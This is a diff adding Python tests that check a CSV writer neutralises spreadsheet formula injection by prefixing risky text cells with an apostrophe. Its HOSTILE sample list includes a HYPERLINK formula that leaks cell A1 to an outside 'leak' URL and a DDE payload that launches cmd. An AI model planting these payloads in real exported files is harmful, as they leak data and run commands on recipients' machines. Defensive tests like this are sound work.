@@ -44,3 +44,36 @@ def test_a_frame_whose_every_float_moved_one_ulp_is_written_the_same():
     assert csv_text(moved) == csv_text(frame)
     assert frame.to_csv() != moved.to_csv()  # pandas alone would write the last digit
     assert ",0.333333333333," in csv_text(frame)
+
+
+HOSTILE = ['=HYPERLINK("https://example.org/leak?"&A1,"x")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3",
+           "\tTAB", "\rCR", "=2+3"]
+
+
+def test_csv_text_cells_that_start_like_a_formula_are_inert():
+    """OWASP's CSV-injection advice: a text cell starting with = + - @ tab or CR gets a leading
+    apostrophe, in values, in the index and in the header; numbers (and text that is a plain
+    number) stay as they are."""
+    import csv
+    import io
+
+    frame = pd.DataFrame({"name": HOSTILE, "value": np.arange(len(HOSTILE)) - 3.5,
+                          "note": ["-5", "+1.5", "ok", None, "a=b", "", "x"]},
+                         index=pd.Index([f"M{i}" if i else "=1+1" for i in range(len(HOSTILE))], name="measure"))
+    frame = frame.rename(columns={"note": "@note"})
+    rows = list(csv.reader(io.StringIO(csv_text(frame))))
+    assert rows[0] == ["measure", "name", "value", "'@note"]
+    assert [r[1] for r in rows[1:]] == ["'" + h.replace("\r", "\n") for h in HOSTILE]  # a CR would end the row
+    assert rows[1][0] == "'=1+1" and rows[2][0] == "M1"
+    assert [r[2] for r in rows[1:]] == ["-3.5", "-2.5", "-1.5", "-0.5", "0.5", "1.5", "2.5"]  # numbers stay numbers
+    assert [r[3] for r in rows[1:]] == ["-5", "+1.5", "ok", "", "a=b", "", "x"]
+
+
+@given(st.text())
+def test_inert_text_never_starts_like_a_formula_unless_a_number(text):
+    from mkba.io.canonical import FORMULA_STARTS, inert_text
+
+    out = inert_text(text)
+    assert out == text or out == "'" + text
+    if out.startswith(FORMULA_STARTS):
+        assert math.isfinite(float(out))
